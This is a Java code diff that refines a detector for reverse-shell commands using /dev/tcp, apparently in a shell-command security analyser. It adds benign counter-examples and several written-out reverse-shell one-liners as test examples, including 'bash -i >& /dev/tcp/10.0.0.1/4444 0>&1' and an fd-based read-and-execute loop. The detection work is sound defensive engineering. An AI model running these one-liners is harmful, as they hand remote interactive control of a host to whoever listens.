@@ -150,7 +150,13 @@ final class NetworkRules {
                         return null;
                     }
                     String n = inv.name();
-                    if (inv.argv().isEmpty() || n.equals("exec") || Programs.isShell(n)
+                    if (n.equals("exec") && inv.size() == 1) {
+                        return null; // exec N<>/dev/tcp/…: a connection; analysis.NetworkShells judges what uses N
+                    }
+                    // a bare "</dev/tcp/H/P" (no command) opens and closes a connection: a port probe; a compound or
+                    // function call writing to the connection may be a shell ({ bash -i; } >& /dev/tcp/…)
+                    boolean writes = inv.redirects().stream().anyMatch(r -> Paths.network(r.target()) && !r.op().equals("<"));
+                    if (inv.argv().isEmpty() && writes || Programs.isShell(n)
                             || Programs.INTERPRETERS.contains(n) || inv.redirects().stream().anyMatch(
                                     r -> Paths.network(r.target()) && (r.op().equals("<>") || r.op().equals(">&")
                                             || r.op().equals("&>")))) {
@@ -158,9 +164,12 @@ final class NetworkRules {
                     }
                     return null;
                 })
-                .examples("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "exec 5<>/dev/tcp/evil/80",
-                        "sh -i > /dev/tcp/1.2.3.4/9 0<&1 2>&1", "0<&196;exec 196<>/dev/tcp/h/1; sh <&196 >&196")
-                .counter("echo hi", "cat < /dev/tcp/time.nist.gov/13")
+                .examples("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "exec 5<>/dev/tcp/evil/80; sh <&5 >&5",
+                        "sh -i > /dev/tcp/1.2.3.4/9 0<&1 2>&1", "0<&196;exec 196<>/dev/tcp/h/1; sh <&196 >&196",
+                        "exec 3<>/dev/tcp/h/4444; while read -r l <&3; do $l >&3 2>&3; done")
+                .counter("echo hi", "cat < /dev/tcp/time.nist.gov/13", "exec 5<>/dev/tcp/example.com/80",
+                        "timeout 1 bash -c '</dev/tcp/localhost/5432' && echo open",
+                        "exec 3<>/dev/tcp/example.com/80; printf 'HEAD / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3")
                 .build();
     }
 
